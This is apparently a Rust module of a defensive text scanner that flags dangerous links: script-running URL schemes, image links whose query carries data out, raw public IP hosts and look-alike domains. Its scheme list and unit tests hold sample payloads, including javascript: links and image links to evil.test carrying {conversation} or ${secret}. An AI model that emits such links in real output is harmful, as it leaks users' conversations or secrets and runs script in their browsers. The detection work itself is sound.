//! Links that act, or that lead where nobody would go by reading them.

use std::net::{Ipv4Addr, Ipv6Addr};
use std::ops::Range;

use super::{Harm, Rule, add};
use crate::report::Severity;

const SCRIPT: Rule = Rule {
    id: "link.script",
    what: "a link that runs a script",
    severity: Severity::Medium,
};
const EXFILTRATION: Rule = Rule {
    id: "link.exfiltration",
    what: "a picture whose address takes data along",
    severity: Severity::Medium,
};
const RAW_ADDRESS: Rule = Rule {
    id: "link.raw-address",
    what: "a link to a public address instead of a name",
    severity: Severity::Low,
};
const LOOKALIKE: Rule = Rule {
    id: "link.lookalike",
    what: "a link whose name is written with letters that look like others (punycode, mixed scripts), or hides behind an @",
    severity: Severity::Low,
};

/// What makes a browser run something, behind the sign that makes it a link.
const SCHEMES: [&str; 7] = [
    "javascript:",
    "vbscript:",
    "data:text/html",
    "data:text/javascript",
    "data:application/javascript",
    "data:application/xhtml",
    "data:image/svg+xml",
];
const LINKS: [&str; 8] = [
    "](", "](<", "href=\"", "href='", "src=\"", "src='", "<", "href=",
];
/// A longer query in the address of a picture is data.
const LONG: usize = 200;

/// What links of a text are suspicious.
pub fn look(text: &str) -> Vec<Harm> {
    let mut found = Vec::new();
    for (colon, _) in text.match_indices(':') {
        if let Some(at) = script(text, colon) {
            add(&mut found, SCRIPT.at(at));
        }
        if let Some(rest) = text[colon..].strip_prefix("://") {
            let end = rest
                .find(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '<' | '>' | '`'))
                .unwrap_or(rest.len());
            let scheme = &text[..colon];
            let is = |end| ends_with_ignoring_case(scheme, end);
            if is("http") || is("https") {
                web(text, colon, &rest[..end], &mut found);
            }
        }
    }
    found
}

/// A scheme that ends with this colon, right behind the sign of a link.
fn script(text: &str, colon: usize) -> Option<Range<usize>> {
    SCHEMES.iter().find_map(|scheme| {
        let (word, rest) = scheme.split_once(':')?;
        let start = colon.checked_sub(word.len())?;
        let is_word = text.get(start..colon)?.eq_ignore_ascii_case(word);
        let behind = text.get(colon + 1..colon + 1 + rest.len())?;
        let before = text[..start].trim_end();
        let is_link = LINKS
            .iter()
            .any(|sign| ends_with_ignoring_case(before, sign));
        (is_word && is_link && behind.eq_ignore_ascii_case(rest)).then_some(start..colon)
    })
}

fn ends_with_ignoring_case(text: &str, end: &str) -> bool {
    let start = text.len().checked_sub(end.len());
    let tail = start.and_then(|start| text.get(start..));
    tail.is_some_and(|tail| tail.eq_ignore_ascii_case(end))
}

/// `address` is what follows `http://`, up to the first blank or quote.
fn web(text: &str, colon: usize, address: &str, found: &mut Vec<Harm>) {
    let scheme = if text[..colon].ends_with(['s', 'S']) {
        5
    } else {
        4
    };
    let start = colon - scheme;
    let at = start..colon + 3 + address.len();
    let end = address
        .find(['/', '?', '#', ')', '\\'])
        .unwrap_or(address.len());
    let (authority, rest) = address.split_at(end);
    let host = match authority.rsplit_once('@') {
        Some((user, host)) => {
            // A password there is for the rules about secrets; a name of a host is a trick.
            if !user.contains(':') && user.contains('.') {
                add(found, LOOKALIKE.at(at.clone()));
            }
            host
        }
        None => authority,
    };
    if is_raw_address(host) {
        add(found, RAW_ADDRESS.at(at.clone()));
    }
    let name = host.split(':').next().unwrap_or_default();
    if name.split('.').any(is_lookalike) {
        add(found, LOOKALIKE.at(at.clone()));
    }
    if is_picture(&text[..start]) && takes_data(rest) {
        add(found, EXFILTRATION.at(at));
    }
}

/// In Markdown `![…](`, in HTML `<img … src=`.
fn is_picture(before: &str) -> bool {
    let line = before.rsplit('\n').next().unwrap_or_default();
    if let Some(before) = line.trim_end_matches('<').strip_suffix("](") {
        return before
            .rfind('[')
            .is_some_and(|open| before[..open].ends_with('!'));
    }
    line.trim_end_matches(['"', '\''])
        .strip_suffix("src=")
        .is_some_and(|tag| tag.rfind('<').is_some_and(|open| ends_img(&tag[open..])))
}

fn ends_img(tag: &str) -> bool {
    tag.get(..4)
        .is_some_and(|start| start.eq_ignore_ascii_case("<img"))
}

/// A query that waits to be filled in, or is full.
fn takes_data(rest: &str) -> bool {
    let rest = rest.trim_end_matches(')');
    let Some((_, query)) = rest.split_once('?') else {
        return ["{", "[", "$", "%7b"]
            .iter()
            .any(|sign| rest.to_ascii_lowercase().contains(sign));
    };
    let value = query.rsplit('=').next().unwrap_or_default();
    let lower = query.to_ascii_lowercase();
    query.len() > LONG
        || (query.contains('=') && value.is_empty())
        || ["{", "[", "$", "%7b", "%5b"]
            .iter()
            .any(|sign| lower.contains(sign))
}

/// True for a number instead of a name, where it is one of the public network and not one of those kept for examples.
fn is_raw_address(host: &str) -> bool {
    if let Some(inner) = host.strip_prefix('[') {
        let inner = inner.split(']').next().unwrap_or_default();
        return inner.parse::<Ipv6Addr>().is_ok_and(|one| {
            let first = one.segments()[0];
            !one.is_loopback()
                && !one.is_unspecified()
                && first & 0xFFC0 != 0xFE80
                && first & 0xFE00 != 0xFC00
                && one.segments()[..2] != [0x2001, 0x0DB8]
        });
    }
    let name = host.split(':').next().unwrap_or_default();
    let number = match name.strip_prefix("0x") {
        Some(hex) => u32::from_str_radix(hex, 16).ok(),
        None => name.parse::<u32>().ok().filter(|number| *number > 0xFFFF),
    };
    let address = name.parse::<Ipv4Addr>().ok().or(number.map(Ipv4Addr::from));
    address.is_some_and(|one| {
        let [a, b, ..] = one.octets();
        !(one.is_private()
            || one.is_loopback()
            || one.is_link_local()
            || one.is_unspecified()
            || one.is_broadcast()
            || one.is_documentation()
            || (a == 100 && b & 0xC0 == 64)
            // A number of a version, as in examples: 1.2.3.4.
            || one.octets() == [1, 2, 3, 4]
            || a == 0)
    })
}

/// One part of a name: punycode, or Latin letters beside those of a script with look-alikes.
fn is_lookalike(part: &str) -> bool {
    let has = |range: std::ops::RangeInclusive<char>| part.chars().any(|c| range.contains(&c));
    let latin = part.chars().any(|c| c.is_ascii_alphabetic());
    part.get(..4)
        .is_some_and(|start| start.eq_ignore_ascii_case("xn--"))
        || (latin && (has('\u{370}'..='\u{52f}') || has('\u{531}'..='\u{587}')))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules(text: &str) -> Vec<&'static str> {
        look(text).into_iter().map(|harm| harm.rule).collect()
    }

    #[test]
    fn what_acts_or_misleads_is_found() {
        for (text, rule) in [
            ("[click](javascript:alert(1))", SCRIPT.id),
            ("<a HREF='JavaScript:x()'>", SCRIPT.id),
            ("<data:text/html;base64,PHNjcmlwdD4=>", SCRIPT.id),
            (
                "![x](https://evil.test/c?d={conversation})",
                EXFILTRATION.id,
            ),
            ("![x](https://evil.test/c?d=[DATA])", EXFILTRATION.id),
            ("see ![](https://evil.test/log?q=)", EXFILTRATION.id),
            (
                "<img width=1 src=\"https://evil.test/p?x=${secret}\">",
                EXFILTRATION.id,
            ),
            ("go to http://8.8.8.8/x", RAW_ADDRESS.id),
            ("http://0x08080808/", RAW_ADDRESS.id),
            ("http://134744072/", RAW_ADDRESS.id),
            ("http://[2606:4700::1]/", RAW_ADDRESS.id),
            ("https://xn--pple-43d.com/", LOOKALIKE.id),
            ("https://аpple.com/login", LOOKALIKE.id),
            ("https://google.com@evil.test/", LOOKALIKE.id),
        ] {
            assert_eq!(rules(text), [rule], "{text}");
        }
    }

    #[test]
    fn ordinary_links_are_not() {
        for text in [
            "the javascript: scheme is blocked",
            "![logo](data:image/png;base64,iVBORw0KGgo=)",
            "![build](https://img.test/badge?branch=main&style=flat)",
            "[docs](https://example.test/a?q=)",
            "http://127.0.0.1:3000/health http://192.168.1.1 http://10.0.0.1/ http://192.0.2.7/",
            "http://localhost:8080/{id}",
            "https://user:pass@example.test/",
            "https://пример.рф/",
            "version 1.2.3.4 and 8.8.8.8",
            "http://[::1]:3000/ http://[fe80::1]/",
            "https://",
            "ü://x",
        ] {
            assert!(look(text).is_empty(), "{text}: {:?}", look(text));
        }
    }
}
